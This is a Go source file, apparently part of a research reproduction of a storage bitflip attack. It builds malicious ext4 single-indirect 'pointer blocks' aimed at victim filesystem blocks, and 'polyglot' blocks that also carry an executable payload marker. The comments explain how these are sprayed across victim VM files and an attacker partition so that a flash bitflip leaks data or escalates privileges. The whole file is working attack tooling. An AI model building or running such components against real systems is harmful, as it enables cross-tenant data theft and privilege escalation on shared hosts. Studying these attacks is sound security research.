@@ -1,0 +1,70 @@
+package core
+
+import (
+	"encoding/binary"
+	"errors"
+)
+
+// Polyglot blocks (§3.2): blocks "that are valid as executable code, file
+// data, and file metadata". Our two flavours:
+//
+//   - pointer blocks, valid as ext4 single-indirect blocks: a little-
+//     endian uint32 array whose entries are victim-filesystem block
+//     numbers. Sprayed as the *data* of the victim-VM spray files; after
+//     a useful bitflip the filesystem dereferences them as metadata.
+//   - payload blocks, carrying an executable marker; sprayed raw across
+//     the attacker partition so that a flip redirecting a victim binary's
+//     LBA to attacker flash lands on "code".
+//
+// CraftPolyglot combines both: the first pointer slots stay valid block
+// pointers while the tail carries the payload marker, so one sprayed
+// block serves the information-leak and privilege-escalation paths at
+// once.
+
+// MaxPointerTargets is the fan-out of one indirect block.
+const MaxPointerTargets = 4096 / 4
+
+// CraftPointerBlock builds a malicious single-indirect block whose slots
+// point at the given victim filesystem blocks. Unused slots stay zero
+// (holes).
+func CraftPointerBlock(targets []uint32) ([]byte, error) {
+	if len(targets) > MaxPointerTargets {
+		return nil, errors.New("core: too many pointer targets")
+	}
+	blk := make([]byte, 4096)
+	for i, t := range targets {
+		binary.LittleEndian.PutUint32(blk[i*4:], t)
+	}
+	return blk, nil
+}
+
+// CraftPolyglot builds a block that is simultaneously a valid pointer
+// array (first len(targets) slots) and an executable payload: the marker
+// plus payload occupy the tail, beyond the pointer slots a file read would
+// dereference.
+func CraftPolyglot(targets []uint32, marker string, payload []byte) ([]byte, error) {
+	if len(targets) > 512 {
+		return nil, errors.New("core: polyglot pointer area limited to 512 targets")
+	}
+	blk, err := CraftPointerBlock(targets)
+	if err != nil {
+		return nil, err
+	}
+	tail := blk[2048:]
+	if len(marker)+len(payload) > len(tail) {
+		return nil, errors.New("core: payload too large")
+	}
+	copy(tail, marker)
+	copy(tail[len(marker):], payload)
+	return blk, nil
+}
+
+// ParsePointerBlock decodes a block as an indirect pointer array.
+func ParsePointerBlock(blk []byte) []uint32 {
+	n := len(blk) / 4
+	out := make([]uint32, n)
+	for i := 0; i < n; i++ {
+		out[i] = binary.LittleEndian.Uint32(blk[i*4:])
+	}
+	return out
+}
